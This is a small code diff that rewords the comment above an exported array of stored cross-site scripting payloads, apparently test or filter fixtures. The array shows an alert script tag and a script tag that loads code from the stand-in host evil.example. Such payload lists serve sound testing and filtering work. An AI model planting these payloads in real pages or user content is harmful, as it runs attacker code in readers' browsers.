@@ -1,4 +1,4 @@
-/** What people have hidden in texts so that it would run in a reader's browser. */
+/** Scripts that people have hidden in texts to run them in a reader's browser. */
 export const storedAttacks = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
